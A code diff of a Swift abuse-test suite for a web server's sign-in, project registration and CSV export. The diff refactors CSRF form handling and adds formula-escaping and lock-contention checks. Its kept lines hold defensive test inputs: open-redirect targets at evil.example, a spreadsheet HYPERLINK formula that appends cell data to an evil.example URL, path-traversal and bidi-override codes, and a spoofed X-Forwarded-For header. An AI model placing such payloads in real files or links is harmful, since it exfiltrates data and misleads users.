@@ -11,6 +11,13 @@ import Testing
 @Suite(.serialized) struct AbuseTests {
     func bearer(_ token: String) -> [String: String] { ["Authorization": "Bearer \(token)"] }
 
+    /// A fresh sign-in form: its CSRF token and the cookie that carries it.
+    func signInForm(_ server: ServerProcess) async throws -> (token: String, cookie: String) {
+        let (_, form, headers) = try await server.request("GET", "/signin")
+        let token = try #require(form.range(of: #"name="_csrf" value="[^"]+""#, options: .regularExpression).map { String(form[$0].dropFirst(20).dropLast()) })
+        return (token, String((headers["set-cookie"] ?? "").split(separator: ";")[0]))
+    }
+
     /// A cross-site page can make a browser send its cookie; it cannot read the CSRF token.
     @Test func apiWritesWithACookieNeedTheCSRFToken() async throws {
         let server = try ServerProcess(["--demo"])
@@ -43,10 +50,7 @@ import Testing
         #expect(orgs == ["yizheng"] || orgs.allSatisfy { $0.hasPrefix("yz") || $0 == "yizheng" }, "\(orgs)")
         // After sign-in, only a path on this site: `/\t/evil.example` reads as //evil.example in browsers.
         for next in ["/\t/evil.example", "//evil.example", "https://evil.example", "/\\evil.example", "/%2F%2Fevil.example"] {
-            let (getStatus, form, getHeaders) = try await server.request("GET", "/signin")
-            #expect(getStatus == 200)
-            let token = try #require(form.range(of: #"name="_csrf" value="[^"]+""#, options: .regularExpression).map { String(form[$0].dropFirst(20).dropLast()) })
-            let csrfCookie = String((getHeaders["set-cookie"] ?? "").split(separator: ";")[0])
+            let (token, csrfCookie) = try await signInForm(server)
             let (status, _, headers) = try await server.postForm("/signin", [("_csrf", token), ("login", "viewer"), ("password", "tiaodu-demo"), ("next", next)], cookies: csrfCookie)
             #expect(status == 303 && headers["location"] == "/", "\(next) → \(headers["location"] ?? "")")
         }
@@ -60,9 +64,7 @@ import Testing
         defer { server.stop() }
         try await server.ready()
         func attempt(_ login: String) async throws -> Int {
-            let (_, form, headers) = try await server.request("GET", "/signin")
-            let token = try #require(form.range(of: #"name="_csrf" value="[^"]+""#, options: .regularExpression).map { String(form[$0].dropFirst(20).dropLast()) })
-            let cookie = String((headers["set-cookie"] ?? "").split(separator: ";")[0])
+            let (token, cookie) = try await signInForm(server)
             return try await server.postForm("/signin", [("_csrf", token), ("login", login), ("password", "wrong-password")], cookies: cookie).0
         }
         let formula = #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#
@@ -130,6 +132,11 @@ import Testing
         #expect(try await register("ok-1", String(repeating: "名", count: 201)).0 == 400)
         for code in ["a/b", "a\\u0000b", "a\\u202Eb", "../x"] { #expect(try await register(code, "名称").0 == 400, "\(code)") }
         #expect(try await register("ok-1", "名称").0 == 200)
+        // A chain named like a formula is text in the city's project figures sheet.
+        let chained = #"[{"code":"ok-2","name":"名称","owner":"yizheng","category":"industry","list_level":"city","total_investment":"12","annual_plan":"3","chain":"=1+2"}]"#
+        #expect(try await server.post("/api/v1/projects", json: chained, token: admin).0 == 200)
+        let (_, sheet, _) = try await server.get("/api/v1/project-figures?period=2021-09&format=csv", headers: bearer(admin))
+        #expect(sheet.contains("'=1+2") && !sheet.contains(",=1+2"), "\(sheet.suffix(300))")
         // Every write says which rows it wrote; a unit moved under another parent keeps its before and after.
         let (wrote, _, _) = try await server.post("/api/v1/values", json: #"[{"org":"baoying","indicator":"sales","period":"2021-09","value":"3.25"}]"#, token: admin)
         #expect(wrote == 200)
@@ -148,12 +155,11 @@ import Testing
             let server = try ServerProcess(["--demo"] + (trusted ? ["--trusted-proxy", "127.0.0.1"] : []))
             defer { server.stop() }
             try await server.ready()
-            let (_, form, headers) = try await server.request("GET", "/signin")
-            let token = try #require(form.range(of: #"name="_csrf" value="[^"]+""#, options: .regularExpression).map { String(form[$0].dropFirst(20).dropLast()) })
+            let (token, cookie) = try await signInForm(server)
             var request = URLRequest(url: URL(string: server.base + "/signin")!)
             request.httpMethod = "POST"
             request.setValue("application/x-www-form-urlencoded", forHTTPHeaderField: "Content-Type")
-            request.setValue(String((headers["set-cookie"] ?? "").split(separator: ";")[0]), forHTTPHeaderField: "Cookie")
+            request.setValue(cookie, forHTTPHeaderField: "Cookie")
             request.setValue("198.51.100.7, 203.0.113.9", forHTTPHeaderField: "X-Forwarded-For")
             request.httpBody = Data("_csrf=\(token)&login=nobody&password=x".utf8)
             _ = try await URLSession(configuration: .ephemeral, delegate: NoRedirects(), delegateQueue: nil).data(for: request)
@@ -199,7 +205,11 @@ import Testing
         try holder.run()
         _ = out.fileHandleForReading.availableData
         try "org,indicator,period,value\nhanjiang,sales,2021-09,42.5\n".write(to: sheet, atomically: true, encoding: .utf8)
+        // The server's writer waits out the same lock, then answers 503 with Retry-After, not 500.
+        async let served = server.post("/api/v1/values", json: #"[{"org":"hanjiang","indicator":"sales","period":"2021-09","value":"42.5"}]"#, token: token)
         let busy = try Harness.run(["import", "values", sheet.path, "--database", server.database], in: server.directory)
+        let (serverStatus, _, serverHeaders) = try await served
+        #expect(serverStatus == 503 && serverHeaders["retry-after"] != nil, "\(serverStatus)")
         holder.waitUntilExit()
         #expect(busy.status == 3 && busy.stderr.contains("busy") && busy.stderr.contains("nothing was written"), "\(busy.status) \(busy.stderr)")
         let (_, values, _) = try await server.get("/api/v1/values?org=hanjiang&indicator=sales&from=2021-09&to=2021-09", headers: bearer(token))
